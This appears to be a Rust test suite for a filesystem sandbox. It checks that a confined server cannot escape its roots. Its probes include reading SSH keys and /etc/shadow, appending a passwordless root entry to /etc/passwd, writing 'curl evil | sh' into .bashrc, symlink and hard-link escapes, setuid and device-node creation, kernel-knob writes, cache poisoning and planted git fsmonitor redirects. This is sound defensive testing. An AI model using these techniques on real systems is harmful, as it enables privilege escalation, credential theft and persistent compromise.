// The cases of the `escapes_fs` suites, included by tests/escapes_fs.rs (the
// server in its own namespaces), tests/escapes_fs_no_ns.rs (without),
// tests/escapes_fs_user.rs (both, run by an unprivileged user) and
// tests/escapes_fs_no_landlock.rs (the view + seccomp rung).


use common::{Probe, SECRET, content};

#[test]
fn dotdot_out_of_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('inside', lambda: read('{r}/inside'))\n\
             check('dotdot', lambda: read('{r}/../outside/secret'))\n\
             check('dotdot_deep', lambda: read('{r}/../../../../{o}/secret'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .expect("inside", "OK")
    .refused("dotdot")
    .refused("dotdot_deep");
}

#[test]
fn sibling_with_the_root_as_prefix_is_refused() {
    let t = tree();
    let evil = t.s("r_evil");
    t.py(
        &[],
        &format!(
            "check('read', lambda: read('{evil}/secret'))\n\
             check('create', lambda: write('{evil}/new'))\n\
             check('list', lambda: os.listdir('{evil}'))"
        ),
    )
    .refused("read")
    .refused("create")
    .refused("list");
    assert!(!t.p("r_evil/new").exists());
}

#[test]
fn symlink_to_a_file_outside_cannot_be_read() {
    let t = tree();
    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
    t.py(
        &[],
        &format!("check('read', lambda: read('{r}/link'))", r = t.r.display()),
    )
    .refused("read");
}

#[test]
fn symlink_to_a_file_outside_cannot_be_written() {
    let t = tree();
    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
    t.py(
        &[],
        &format!(
            "check('append', lambda: write('{r}/link', 'pwned', 'a'))\n\
             check('truncate', lambda: os.truncate('{r}/link', 0))",
            r = t.r.display()
        ),
    )
    .refused("append")
    .refused("truncate");
    assert_eq!(content(&t.outside.join("secret")), SECRET);
}

#[test]
fn symlink_to_a_directory_outside_cannot_be_listed_or_read() {
    let t = tree();
    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
    t.py(
        &[],
        &format!(
            "check('list', lambda: os.listdir('{r}/dlink'))\n\
             check('read', lambda: read('{r}/dlink/secret'))",
            r = t.r.display()
        ),
    )
    .refused("list")
    .refused("read");
}

#[test]
fn symlink_to_a_directory_outside_cannot_be_created_through() {
    let t = tree();
    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
    t.py(
        &[],
        &format!(
            "check('create', lambda: write('{r}/dlink/planted'))\n\
             check('mkdir', lambda: os.mkdir('{r}/dlink/d'))",
            r = t.r.display()
        ),
    )
    .refused("create")
    .refused("mkdir");
    assert!(!t.outside.join("planted").exists());
    assert!(!t.outside.join("d").exists());
}

#[test]
fn dangling_symlink_pointing_outside_cannot_be_written_through() {
    let t = tree();
    let target = t.outside.join("created-through-dangling-link");
    std::os::unix::fs::symlink(&target, t.r.join("dangling")).unwrap();
    t.py(
        &[],
        &format!(
            "check('create', lambda: write('{r}/dangling', 'pwned'))",
            r = t.r.display()
        ),
    )
    .refused("create");
    assert!(!target.exists());
}

#[test]
fn symlink_made_at_run_time_pointing_outside_gives_nothing() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('symlink', lambda: os.symlink('{o}/secret', '{r}/made'))\n\
             check('read', lambda: read('{r}/made'))\n\
             check('write', lambda: write('{r}/made', 'pwned', 'a'))\n\
             check('dirlink', lambda: os.symlink('{o}', '{r}/madedir'))\n\
             check('dirread', lambda: os.listdir('{r}/madedir'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    // Making the link itself is allowed: it is a file inside the root.
    .expect("symlink", "OK")
    .refused("read")
    .refused("write")
    .expect("dirlink", "OK")
    .refused("dirread");
    assert_eq!(content(&t.outside.join("secret")), SECRET);
}

#[test]
fn rename_out_of_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('rename', lambda: os.rename('{r}/inside', '{o}/moved'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("rename");
    assert!(t.r.join("inside").exists());
    assert!(!t.outside.join("moved").exists());
}

#[test]
fn rename_into_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('rename', lambda: os.rename('{o}/secret', '{r}/stolen'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("rename");
    assert_eq!(content(&t.outside.join("secret")), SECRET);
    assert!(!t.r.join("stolen").exists());
}

#[test]
fn rename_of_a_directory_out_of_a_root_is_refused() {
    let t = tree();
    std::fs::create_dir(t.r.join("sub")).unwrap();
    t.py(
        &[],
        &format!(
            "check('rename', lambda: os.rename('{r}/sub', '{o}/sub'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("rename");
    assert!(t.r.join("sub").is_dir());
}

#[test]
fn hard_link_out_of_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('link', lambda: os.link('{r}/inside', '{o}/linked'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("link");
    assert!(!t.outside.join("linked").exists());
}

#[test]
fn hard_link_of_an_outside_file_into_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('link', lambda: os.link('{o}/secret', '{r}/stolen'))\n\
             check('read', lambda: read('{r}/stolen'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("link")
    .expect("read", "ENOENT");
}

#[test]
fn read_only_root_refuses_creating_files() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('read', lambda: read('{ro}/file'))\n\
             check('create', lambda: write('{ro}/new'))\n\
             check('fifo', lambda: os.mkfifo('{ro}/fifo'))\n\
             check('symlink', lambda: os.symlink('/', '{ro}/l'))",
            ro = t.ro.display()
        ),
    )
    .expect("read", "OK")
    .refused("create")
    .refused("fifo")
    .refused("symlink");
    assert!(!t.ro.join("new").exists());
}

#[test]
fn read_only_root_refuses_writing_existing_files() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('rplus', lambda: open('{ro}/file', 'r+'))\n\
             check('append', lambda: write('{ro}/file', 'x', 'a'))",
            ro = t.ro.display()
        ),
    )
    .refused("rplus")
    .refused("append");
    assert_eq!(content(&t.ro.join("file")), "read-only content");
}

#[test]
fn read_only_root_refuses_truncation() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('truncate', lambda: os.truncate('{ro}/file', 0))\n\
             check('o_trunc', lambda: os.open('{ro}/file', os.O_RDONLY | os.O_TRUNC))",
            ro = t.ro.display()
        ),
    )
    .refused("truncate")
    .refused("o_trunc");
    assert_eq!(content(&t.ro.join("file")), "read-only content");
}

#[test]
fn read_only_root_refuses_unlink() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('unlink', lambda: os.unlink('{ro}/file'))",
            ro = t.ro.display()
        ),
    )
    .refused("unlink");
    assert!(t.ro.join("file").exists());
}

#[test]
fn read_only_root_refuses_mkdir_and_rename() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('mkdir', lambda: os.mkdir('{ro}/d'))\n\
             check('rename', lambda: os.rename('{ro}/file', '{ro}/renamed'))",
            ro = t.ro.display()
        ),
    )
    .refused("mkdir")
    .refused("rename");
    assert!(t.ro.join("file").exists());
}

#[test]
fn read_write_root_allows_everything_a_server_needs() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('create', lambda: write('{r}/a', 'hello'))\n\
             check('read', lambda: read('{r}/a'))\n\
             check('append', lambda: write('{r}/a', '!', 'a'))\n\
             check('truncate', lambda: os.truncate('{r}/a', 1))\n\
             check('mkdir', lambda: os.makedirs('{r}/d/e'))\n\
             check('rename', lambda: os.rename('{r}/a', '{r}/d/e/b'))\n\
             check('link', lambda: os.link('{r}/d/e/b', '{r}/c'))\n\
             check('symlink', lambda: os.symlink('d/e/b', '{r}/s'))\n\
             check('via_symlink', lambda: read('{r}/s'))\n\
             check('fifo', lambda: os.mkfifo('{r}/fifo'))\n\
             check('chmod', lambda: os.chmod('{r}/c', 0o640))\n\
             check('unlink', lambda: os.unlink('{r}/c'))\n\
             check('rmdir', lambda: (os.unlink('{r}/d/e/b'), os.rmdir('{r}/d/e')))\n\
             check('list', lambda: os.listdir('{r}'))",
            r = t.r.display()
        ),
    )
    .success()
    .expect("create", "OK")
    .expect("read", "OK")
    .expect("append", "OK")
    .expect("truncate", "OK")
    .expect("mkdir", "OK")
    .expect("rename", "OK")
    .expect("link", "OK")
    .expect("symlink", "OK")
    .expect("via_symlink", "OK")
    .expect("fifo", "OK")
    .expect("chmod", "OK")
    .expect("unlink", "OK")
    .expect("rmdir", "OK")
    .expect("list", "OK");
}

#[test]
fn home_directory_secrets_are_not_readable() {
    let t = tree();
    let p = t.py(
        &[],
        "home = os.environ['HOME']\n\
         check('ssh_key', lambda: read(home + '/.ssh/id_rsa'))\n\
         check('ssh_dir', lambda: os.listdir(home + '/.ssh'))\n\
         check('bashrc', lambda: read(home + '/.bashrc'))\n\
         check('home', lambda: os.listdir(home))\n\
         check('tilde', lambda: read(os.path.expanduser('~/.ssh/id_rsa')))\n\
         try:\n    print('listing=' + ','.join(sorted(os.listdir(home))))\n\
         except OSError as e:\n    print('listing=' + errno.errorcode[e.errno])",
    );
    p.refused("ssh_key")
        .refused("ssh_dir")
        .refused("bashrc")
        .refused("tilde");
    // Both files are there outside: the refusals are the sandbox's.
    assert_eq!(content(&t.home.join(".ssh/id_rsa")), SECRET);
    if t.namespaces {
        // The server's home is a private directory of its own: listed, it
        // holds nothing of the real one.
        p.expect("home", "OK").expect("listing", "");
    } else {
        p.refused("home");
    }
}

#[test]
fn home_directory_is_never_written() {
    let t = tree();
    let p = t.py(
        &[],
        "home = os.environ['HOME']\n\
         check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
         check('plant', lambda: write(home + '/.profile', 'x'))\n\
         check('authorized_keys', lambda: write(home + '/.ssh/authorized_keys', 'ssh-rsa AAA'))\n\
         check('state', lambda: (os.makedirs(home + '/.my-server'), write(home + '/.my-server/s.json', '{}')))\n\
         check('state_back', lambda: read(home + '/.my-server/s.json'))",
    );
    p.refused("authorized_keys");
    if t.namespaces {
        // Writes go to the server's private home, discarded at exit.
        p.expect("bashrc", "OK")
            .expect("plant", "OK")
            .expect("state", "OK")
            .expect("state_back", "OK");
    } else {
        p.refused("bashrc").refused("plant").refused("state");
    }
    // Nothing reached the real home directory.
    assert_eq!(content(&t.home.join(".bashrc")), SECRET);
    assert!(!t.home.join(".profile").exists());
    assert!(!t.home.join(".my-server").exists());
    assert!(!t.home.join(".ssh/authorized_keys").exists());
}

#[test]
fn etc_cannot_be_written_and_shadow_not_read() {
    let t = tree();
    t.py(
        &[],
        "check('create', lambda: write('/etc/rootfence-escape-test'))\n\
         check('passwd', lambda: write('/etc/passwd', 'evil::0:0::/:/bin/sh\\n', 'a'))\n\
         check('read_passwd', lambda: read('/etc/passwd'))\n\
         check('shadow', lambda: read('/etc/shadow'))\n\
         check('hostname', lambda: read('/etc/hostname'))",
    )
    .refused("create")
    .refused("passwd")
    // /etc/passwd is a runtime file (user names); it is read-only.
    .expect("read_passwd", "OK")
    .refused("shadow")
    .refused("hostname");
    assert!(!std::path::Path::new("/etc/rootfence-escape-test").exists());
}

#[test]
fn usr_cannot_be_written() {
    let t = tree();
    t.py(
        &[],
        "check('create', lambda: write('/usr/rootfence-escape-test'))\n\
         check('bin', lambda: write('/usr/local/bin/rootfence-escape-test'))\n\
         check('python', lambda: open('/usr/bin/env', 'r+b'))\n\
         check('unlink', lambda: os.unlink('/usr/bin/true'))",
    )
    .refused("create")
    .refused("bin")
    .refused("python")
    .refused("unlink");
    assert!(!std::path::Path::new("/usr/rootfence-escape-test").exists());
}

#[test]
fn proc_self_root_does_not_reach_outside() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('outside', lambda: read('/proc/self/root{o}/secret'))\n\
             check('home', lambda: read('/proc/self/root' + os.environ['HOME'] + '/.ssh/id_rsa'))\n\
             check('inside', lambda: read('/proc/self/root{r}/inside'))\n\
             check('own_status', lambda: read('/proc/self/status'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("outside")
    .refused("home")
    .expect("inside", "OK")
    .expect("own_status", "OK");
}

#[test]
fn setuid_chmod_is_refused_everywhere() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('suid_outside', lambda: os.chmod('{o}/secret', 0o4755))\n\
             check('sgid_inside', lambda: os.chmod('{r}/inside', 0o2755))\n\
             check('world_writable', lambda: os.chmod('{o}/secret', 0o666))\n\
             check('plain_inside', lambda: os.chmod('{r}/inside', 0o755))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .expect("suid_outside", "EPERM")
    .expect("sgid_inside", "EPERM")
    .refused("world_writable")
    .expect("plain_inside", "OK");
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(t.outside.join("secret"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o6002, 0);
}

#[test]
fn device_nodes_cannot_be_made_in_a_root() {
    let t = tree();
    // A block device for the first disk would give the whole disk.
    t.py(
        &[],
        &format!(
            "check('block', lambda: os.mknod('{r}/disk', 0o600 | stat.S_IFBLK, os.makedev(8, 0)))\n\
             check('char', lambda: os.mknod('{r}/mem', 0o600 | stat.S_IFCHR, os.makedev(1, 1)))",
            r = t.r.display()
        ),
    )
    .refused("block")
    .refused("char");
}

#[test]
fn device_files_are_closed() {
    let t = tree();
    t.py(
        &[],
        "check('kmsg', lambda: open('/dev/kmsg', 'rb'))\n\
         check('mem', lambda: open('/dev/mem', 'rb'))\n\
         check('vda', lambda: open('/dev/vda', 'rb'))\n\
         check('tty1', lambda: open('/dev/tty1', 'wb'))\n\
         check('null', lambda: write('/dev/null', 'x'))\n\
         check('urandom', lambda: open('/dev/urandom', 'rb').read(8))",
    )
    .refused("kmsg")
    .refused("mem")
    .refused("vda")
    .refused("tty1")
    .expect("null", "OK")
    .expect("urandom", "OK");
}

#[test]
fn kernel_knobs_cannot_be_written() {
    let t = tree();
    t.py(
        &[],
        "check('sysrq', lambda: write('/proc/sysrq-trigger', 'h'))\n\
         check('core_pattern', lambda: write('/proc/sys/kernel/core_pattern', '|/tmp/x'))\n\
         check('sysctl_read', lambda: read('/proc/sys/kernel/hostname'))\n\
         check('sys_write', lambda: write('/sys/kernel/mm/transparent_hugepage/enabled', 'never'))\n\
         check('uevent_helper', lambda: write('/sys/kernel/uevent_helper', '/tmp/x'))",
    )
    .refused("sysrq")
    .refused("core_pattern")
    .refused("sysctl_read")
    .refused("sys_write")
    .refused("uevent_helper");
}

#[test]
fn a_new_user_namespace_cannot_mount_over_the_sandbox() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "import ctypes\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             def sc(r):\n\
             \x20   if r != 0:\n\
             \x20       raise OSError(ctypes.get_errno(), 'call')\n\
             check('unshare', lambda: sc(libc.unshare(0x10000000 | 0x00020000)))\n\
             check('mount_tmpfs', lambda: sc(libc.mount(b'none', b'{o}', b'tmpfs', 0, None)))\n\
             check('bind_root', lambda: sc(libc.mount(b'/', b'{r}', None, 4096 | 16384, None)))\n\
             check('chroot_read', lambda: (sc(libc.chroot(b'{r}')), read('/../outside/secret')))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    // No namespace can be made from inside (a kernel surface no server
    // needs), and nothing can be mounted.
    .expect("unshare", "EPERM")
    .refused("mount_tmpfs")
    .refused("bind_root")
    .refused("chroot_read");
    assert_eq!(content(&t.outside.join("secret")), SECRET);
}

#[test]
fn extended_attributes_acls_and_owners_outside_the_roots_stay() {
    // chmod o+w is refused, but a POSIX ACL set through setxattr would make
    // the file world-writable all the same; Landlock does not rule on
    // extended attributes or owners.
    let t = tree();
    let secret = t.outside.join("secret");
    set_xattr(&secret, "user.kept", b"yes");
    let p = t.py(
        &[],
        &format!(
            "import struct\n\
             acl = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', tag, perm, 0xffffffff) for tag, perm in ((1, 6), (4, 6), (0x20, 6)))\n\
             check('acl', lambda: os.setxattr('{s}', 'system.posix_acl_access', acl))\n\
             check('user_xattr', lambda: os.setxattr('{s}', 'user.rootfence', b'x'))\n\
             check('remove_xattr', lambda: os.removexattr('{s}', 'user.kept'))\n\
             check('chown_group', lambda: os.chown('{s}', -1, 65534))\n\
             check('chown_inside', lambda: (write('{r}/mine'), os.chown('{r}/mine', -1, os.getgid())))",
            s = secret.display(),
            r = t.r.display()
        ),
    );
    p.refused("acl")
        .refused("user_xattr")
        .refused("remove_xattr")
        .refused("chown_group");
    if t.namespaces {
        // Inside a writable root the server's own files are its own.
        p.expect("chown_inside", "OK");
    }
    let md = std::fs::metadata(&secret).unwrap();
    assert_eq!(
        std::os::unix::fs::MetadataExt::gid(&md),
        t.runner().1,
        "the group changed"
    );
    assert_eq!(xattr(&secret, "system.posix_acl_access"), None, "an ACL was set");
    assert_eq!(xattr(&secret, "user.rootfence"), None, "an attribute was set");
    assert_eq!(xattr(&secret, "user.kept").as_deref(), Some(&b"yes"[..]));
    assert_eq!(content(&secret), SECRET);
}

/// An extended attribute of `p`, if set.
fn xattr(p: &std::path::Path, name: &str) -> Option<Vec<u8>> {
    let path = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    let name = std::ffi::CString::new(name).unwrap();
    let mut buf = vec![0u8; 256];
    // SAFETY: valid C strings and a buffer of the given size.
    let n = unsafe { libc::getxattr(path.as_ptr(), name.as_ptr(), buf.as_mut_ptr().cast(), buf.len()) };
    (n >= 0).then(|| {
        buf.truncate(n as usize);
        buf
    })
}

fn set_xattr(p: &std::path::Path, name: &str, value: &[u8]) {
    let path = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    let name = std::ffi::CString::new(name).unwrap();
    // SAFETY: valid C strings and value.
    let r = unsafe { libc::setxattr(path.as_ptr(), name.as_ptr(), value.as_ptr().cast(), value.len(), 0) };
    assert_eq!(r, 0, "setxattr: {}", std::io::Error::last_os_error());
}

#[test]
fn caches_run_later_outside_are_never_written() {
    // npx runs what the npm cache holds and uv hard-links its cache into
    // environments used outside: a server writing there would run code
    // outside the sandbox later.
    let t = tree();
    let pkg = t.home.join(".npm/_npx/0123456789abcdef/node_modules/pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(pkg.join("index.js"), "ORIGINAL").unwrap();
    let uv = t.home.join(".cache/uv/archive-v0/x");
    std::fs::create_dir_all(&uv).unwrap();
    std::fs::write(uv.join("lib.py"), "ORIGINAL").unwrap();
    let node = ["/usr/local/bin/node", "/usr/bin/node"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("node is required: apt-get install -y nodejs");
    let js = format!(
        "const fs = require('fs');\n\
         const f = '{f}';\n\
         try {{ fs.writeFileSync(f, 'CHANGED'); console.log('write=OK') }} catch (e) {{ console.log('write=' + e.code) }}\n\
         try {{ console.log('seen=' + fs.readFileSync(f, 'utf8')) }} catch (e) {{ console.log('seen=' + e.code) }}\n\
         console.log('cache=' + process.env.npm_config_cache);",
        f = pkg.join("index.js").display()
    );
    let out = t.run(&[], &[node, "-e", &js]);
    let p = Probe::new(out);
    if t.namespaces {
        // Written through the server's private layer: it sees its write,
        // the user's cache does not.
        p.expect("write", "OK").expect("seen", "CHANGED");
        assert_eq!(p.value("cache"), t.home.join(".npm").display().to_string());
    } else {
        // Without namespaces: read-only, and an empty private cache.
        p.refused("write");
        assert!(p.value("cache").contains("rootfence-"), "{}", p.value("cache"));
    }
    assert_eq!(content(&pkg.join("index.js")), "ORIGINAL");
    let p = t.py(
        &[],
        &format!(
            "check('uv', lambda: write('{f}', 'CHANGED'))\n\
             print('uv_cache=' + os.environ.get('UV_CACHE_DIR', ''))",
            f = uv.join("lib.py").display()
        ),
    );
    if t.namespaces {
        p.expect("uv", "OK");
    } else {
        p.refused("uv");
        assert!(p.value("uv_cache").contains("rootfence-"));
    }
    assert_eq!(content(&uv.join("lib.py")), "ORIGINAL");
}

#[test]
fn set_id_modes_are_refused_at_creation_as_at_chmod() {
    // open(O_CREAT), mkdir and mknod take a mode too: a server running as
    // root would otherwise leave a set-user-ID root file in the user's
    // tree (the umask never clears set-id bits).
    let t = tree();
    t.py(
        &[],
        &format!(
            "os.umask(0)\n\
             check('open_suid', lambda: os.close(os.open('{r}/suid', os.O_CREAT | os.O_WRONLY, 0o6777)))\n\
             check('open_sgid', lambda: os.close(os.open('{r}/sgid', os.O_CREAT | os.O_WRONLY | os.O_EXCL, 0o2755)))\n\
             check('tmpfile_suid', lambda: os.close(os.open('{r}', os.O_TMPFILE | os.O_WRONLY, 0o4755)))\n\
             check('mkdir_sgid', lambda: os.mkdir('{r}/sgid_dir', 0o3777))\n\
             check('mkfifo_suid', lambda: os.mkfifo('{r}/suid_fifo', 0o4666))\n\
             os.umask(0o022)\n\
             check('open_plain', lambda: os.close(os.open('{r}/plain', os.O_CREAT | os.O_WRONLY, 0o755)))\n\
             check('mkdir_sticky', lambda: os.mkdir('{r}/sticky_dir', 0o1777))\n\
             check('mkfifo_plain', lambda: os.mkfifo('{r}/plain_fifo', 0o644))",
            r = t.r.display(),
        ),
    )
    .expect("open_suid", "EPERM")
    .expect("open_sgid", "EPERM")
    .expect("tmpfile_suid", "EPERM")
    .expect("mkdir_sgid", "EPERM")
    .expect("mkfifo_suid", "EPERM")
    .expect("open_plain", "OK")
    .expect("mkdir_sticky", "OK")
    .expect("mkfifo_plain", "OK");
    for refused in ["suid", "sgid", "sgid_dir", "suid_fifo"] {
        assert!(
            !t.r.join(refused).exists(),
            "{refused} was created in the root"
        );
    }
    use std::os::unix::fs::PermissionsExt;
    for made in ["plain", "sticky_dir", "plain_fifo"] {
        let mode = std::fs::symlink_metadata(t.r.join(made))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o6000, 0, "{made} has set-id bits: {mode:o}");
    }
}

/// Inode flags of `p` (`FS_IOC_GETFLAGS`), read from outside.
fn inode_flags(p: &std::path::Path) -> i64 {
    use std::os::fd::AsRawFd;
    let f = std::fs::File::open(p).unwrap();
    let mut flags: libc::c_long = 0;
    // SAFETY: FS_IOC_GETFLAGS writes a long.
    let r = unsafe { libc::ioctl(f.as_raw_fd(), 0x8008_6601, &mut flags) };
    assert_eq!(r, 0, "FS_IOC_GETFLAGS: {}", std::io::Error::last_os_error());
    flags as i64
}

#[test]
fn inode_flags_of_files_it_may_only_read_stay() {
    // FS_IOC_SETFLAGS and FS_IOC_FSSETXATTR on a descriptor opened
    // read-only, and file_setattr (Linux 6.17) on a path: Landlock does not
    // rule on them, and without the view's read-only mounts the owner of a
    // file (root owns them all) could set nodump, noatime, sync or
    // append-only on files of a read-only root or outside.
    let t = tree();
    let file = t.ro.join("file");
    let before = inode_flags(&file);
    t.py(
        &[],
        &format!(
            "import fcntl, array, ctypes, struct\n\
             libc = ctypes.CDLL(None, use_errno=True)\n\
             fd = os.open('{f}', os.O_RDONLY)\n\
             def getflags():\n\
             \x20   a = array.array('l', [0]); fcntl.ioctl(fd, 0x80086601, a, True); return a[0]\n\
             check('getflags', getflags)\n\
             def setflags():\n\
             \x20   a = array.array('l', [getflags() | 0x40]); fcntl.ioctl(fd, 0x40086602, a, True)\n\
             check('setflags', setflags)\n\
             def fssetxattr():\n\
             \x20   buf = bytearray(28); fcntl.ioctl(fd, 0x801c581f, buf, True)\n\
             \x20   struct.pack_into('<I', buf, 0, struct.unpack_from('<I', buf, 0)[0] | 0x80)\n\
             \x20   fcntl.ioctl(fd, 0x401c5820, bytes(buf))\n\
             check('fssetxattr', fssetxattr)\n\
             def file_setattr():\n\
             \x20   attr = struct.pack('<QIIII', 0x80, 0, 0, 0, 0)\n\
             \x20   if libc.syscall(469, -100, b'{f}', attr, len(attr), 0) < 0:\n\
             \x20       raise OSError(ctypes.get_errno(), 'file_setattr')\n\
             check('file_setattr', file_setattr)",
            f = file.display(),
        ),
    )
    .expect("getflags", "OK")
    .expect_any("setflags", &["EPERM", "EROFS"])
    .expect_any("fssetxattr", &["EPERM", "EROFS"])
    .expect_any("file_setattr", &["EPERM", "EROFS", "ENOSYS"]);
    assert_eq!(inode_flags(&file), before, "the read-only root's file got new flags");
}

/// `git` with a fixed identity and no global configuration, in `dir`, run
/// by the tree's user (whose repository it is).
fn git_in(t: &common::Tree, dir: &std::path::Path, args: &[&str]) -> std::process::Output {
    t.as_runner(
        std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(args)
            .current_dir(dir)
            .env("HOME", dir)
            .env("GIT_CONFIG_NOSYSTEM", "1"),
    )
    .output()
    .expect("git is required: apt-get install -y git")
}

#[test]
fn git_redirects_planted_in_a_root_do_not_reach_the_users_git() {
    // .git/commondir (or config.worktree) makes git read another config:
    // a server writes one pointing at a directory it made, whose config
    // sets core.fsmonitor, and the user's next `git status` runs it. A
    // mount cannot refuse a name that does not exist yet: rootfence moves
    // these away when the server ends, and reports them and a new
    // repository it made, with what they would run.
    let t = tree();
    assert!(git_in(&t, &t.r, &["init", "-q"]).status.success());
    std::fs::write(t.r.join("tracked"), "v1").unwrap();
    assert!(git_in(&t, &t.r, &["add", "tracked"]).status.success());
    let marker = t.outside.join("fsmonitor-ran");
    let r = t.r.display().to_string();
    let out = t.run(
        &[],
        &[
            "/bin/sh",
            "-c",
            &format!(
                "mkdir -p {r}/evil/objects {r}/evil/refs && \
                 printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch {m}\\n' > {r}/evil/config && \
                 echo ../evil > {r}/.git/commondir && \
                 printf '[core]\\n\\tfsmonitor = touch {m}\\n' > {r}/.git/config.worktree && \
                 mkdir -p {r}/nested/.git && printf '[core]\\n\\tfsmonitor = touch {m}\\n' > {r}/nested/.git/config && \
                 echo planted",
                m = marker.display()
            ),
        ],
    );
    assert!(
        common::stdout(&out).contains("planted"),
        "the server could not write in its root: {}",
        common::stderr(&out)
    );
    let err = common::stderr(&out);
    assert!(!t.r.join(".git/commondir").exists(), "commondir left in place\n{err}");
    assert!(!t.r.join(".git/config.worktree").exists(), "config.worktree left in place\n{err}");
    assert!(
        err.contains(".git/commondir") && err.contains("rootfence-quarantine"),
        "the redirect was not reported as moved:\n{err}"
    );
    assert!(
        err.contains("nested/.git") && err.contains("fsmonitor"),
        "the new repository was not reported with what it runs:\n{err}"
    );
    let st = git_in(&t, &t.r, &["status", "--short"]);
    assert!(st.status.success(), "{}", String::from_utf8_lossy(&st.stderr));
    assert!(!marker.exists(), "a command planted by the server ran outside");
}
